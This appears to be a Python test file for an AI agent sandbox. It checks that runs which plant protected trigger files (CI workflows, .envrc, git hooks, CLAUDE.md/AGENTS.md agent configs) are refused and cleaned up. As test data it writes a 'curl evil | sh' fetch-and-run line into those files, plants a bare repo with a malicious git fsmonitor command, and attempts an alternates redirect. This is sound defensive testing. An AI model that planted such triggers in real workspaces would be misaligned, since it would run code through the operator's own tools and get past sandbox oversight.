"""A sandboxed run cannot leave a protected name behind: an
auto-allowed `agent-console exec` that plants triggers the operator's own tools run later
is refused: protected, and the workspace is left without them. Real daemon, real bwrap,
real files; the operator's `git status` really runs afterwards.
"""

from __future__ import annotations

import json
import subprocess
import sys

import pytest
from support.daemon import running_daemon, short_tmp, wait_for, workspace
from support.items import pending_item

from console.tui.render.present import PLAIN, DetailOptions, render_request

pytestmark = pytest.mark.needs_bwrap

# Names that do not exist before the run: the protected set's, old and new.
PLANTED = [
    ".envrc",
    ".gitattributes",
    ".gitmodules",
    ".github/workflows/ci.yml",
    ".github/actions/deploy/action.yml",
    ".vscode/tasks.json",
    ".mcp.json",
    ".pre-commit-config.yaml",
    ".husky/pre-commit",
    ".env",
    "src/.env.local",
    "project.code-workspace",
    ".devcontainer/devcontainer.json",
    ".idea/workspace.xml",
    ".yarnrc.yml",
    ".npmrc",
    ".cargo/config.toml",
    "rust-toolchain.toml",
    "mise.toml",
    ".tool-versions",
    "eslint.config.js",
    ".pylintrc",
    "conftest.py",
    ".aider.conf.yml",
    "CLAUDE.md",
    "AGENTS.md",
    "GEMINI.md",
]


@pytest.fixture(scope="module", params=["live", "after"])
def daemon(request):
    """``live``: the fast lane names the run's processes and stops it at its first
    protected name; ``after``: without fanotify (not root), the sweep when it ends."""
    env = {"AGENT_CONSOLE_NO_FANOTIFY": "1"} if request.param == "after" else None
    with running_daemon("approval_timeout_s = 60\n", env=env) as d:
        d.refusal = request.param
        yield d


def exec_in(d, ws, script):
    return subprocess.run(
        [
            sys.executable,
            "-m",
            "console",
            "exec",
            "--json",
            "--state-dir",
            str(d.state_dir),
            "--",
            "sh",
            "-c",
            script,
        ],
        cwd=ws,
        capture_output=True,
        text=True,
        timeout=120,
    )


def test_new_protected_names_made_by_a_run_are_refused_and_removed(daemon):
    ws = workspace()
    subprocess.run(["git", "init", "-q", str(ws)], check=True)
    script = "; ".join(f"mkdir -p \"$(dirname '{n}')\" && echo 'curl evil | sh' > '{n}'" for n in PLANTED)
    r = exec_in(daemon, ws, "echo ordinary > notes.txt; " + script)
    assert r.returncode == 126, r.stderr  # it ran, but it is not a success
    reply = json.loads(r.stdout)
    result = reply["result"]
    assert reply["decision"]["verdict"] == "allow"
    # Stopped at its first protected name, or refused when it ended.
    assert result["status"] == ("cancelled" if daemon.refusal == "live" else "exited")
    assert result["outcome"]["denial"]["reason"].startswith("refused: protected: the run created ")
    assert result["outcome"]["denial"]["reason"].endswith("(removed)")
    assert "refused: protected" in r.stderr
    left = [n for n in PLANTED if (ws / n).exists()]
    assert left == []
    assert (ws / "notes.txt").read_text() == "ordinary\n"  # what it may do stays done
    refused = {c["path"] for c in result["outcome"]["changes"] if c.get("refused")}
    assert ".envrc" in refused and "notes.txt" not in refused
    if daemon.refusal == "after":
        for name in ("CLAUDE.md", ".github/workflows/ci.yml", "src/.env.local", "conftest.py"):
            assert name in refused or any(name.startswith(r + "/") for r in refused), (name, refused)


def test_a_bare_repository_planted_anywhere_does_not_run_the_operators_git(daemon):
    ws = workspace()
    subprocess.run(["git", "init", "-q", str(ws)], check=True)
    ran = short_tmp("ran-") / "payload-ran"
    (ws / "docs").mkdir()
    plant = (
        "cd docs && mkdir -p objects refs/heads && echo 'ref: refs/heads/main' > HEAD && "
        f"printf '[core]\\n\\tworktree = ..\\n\\tfsmonitor = \"touch {ran}; false\"\\n' > config"
    )
    r = exec_in(daemon, ws, plant)
    assert r.returncode == 126, r.stderr
    assert not (ws / "docs" / "config").exists()
    # The operator, outside any sandbox, in the directory the run chose.
    subprocess.run(["git", "status"], cwd=ws / "docs", capture_output=True, timeout=30)
    assert not ran.exists(), "the planted fsmonitor ran on the operator's git status"


def test_alternates_cannot_be_written_and_are_listed_when_made(daemon):
    ws = workspace()
    subprocess.run(["git", "init", "-q", str(ws)], check=True)
    # The placeholder (an empty alternates, as git reads no file) is pinned: a write fails.
    r = exec_in(daemon, ws, "echo /elsewhere/objects > .git/objects/info/alternates")
    assert r.returncode != 0
    assert (ws / ".git" / "objects" / "info" / "alternates").read_text() == ""
    # Without objects/info (no placeholder possible), making it is refused and listed.
    bare = workspace()
    subprocess.run(["git", "init", "-q", str(bare)], check=True)
    info = bare / ".git" / "objects" / "info"
    for f in info.iterdir():
        f.unlink()
    info.rmdir()
    r = exec_in(
        daemon, bare, "mkdir -p .git/objects/info && echo /elsewhere/objects > .git/objects/info/alternates"
    )
    assert r.returncode == 126, r.stderr
    changes = json.loads(r.stdout)["result"]["outcome"]["changes"]
    assert any(c["path"] == ".git/objects/info/alternates" and c.get("refused") for c in changes), changes
    assert not (info / "alternates").exists()


def test_what_the_operator_approved_stays(daemon):
    """A protected_metadata scope the operator approved is the run's to write."""
    ws = workspace()
    (ws / ".github" / "workflows").mkdir(parents=True)
    with daemon.operator() as op:
        req = subprocess.Popen(
            [
                sys.executable,
                "-m",
                "console",
                "exec",
                "--json",
                "--state-dir",
                str(daemon.state_dir),
                "--write",
                str(ws / ".github" / "workflows"),
                "--",
                "sh",
                "-c",
                "echo ok > .github/workflows/ci.yml",
            ],
            cwd=ws,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        pending = wait_for(lambda: op.call("pending.list")["pending"], timeout_s=30)[0]
        assert any(e["kind"] == "protected_metadata" for e in pending["evaluation"]["escalations"])
        # The request's detail says which protected names the run can touch, and nothing else.
        shown = " ".join(
            render_request(pending_item(pending), [], PLAIN, DetailOptions(expanded=True)).text.plain.split()
        )
        assert "Protected paths" in shown and f"can change {ws}/.github/workflows" in shown
        assert "every other protected path stays read-only" in shown and "refused: protected" in shown
        op.call("decide", {"target": pending["request_id"], "action": "approve", "note": "once"})
        _out, err = req.communicate(timeout=120)
    assert req.returncode == 0, err
    assert (ws / ".github" / "workflows" / "ci.yml").read_text() == "ok\n"
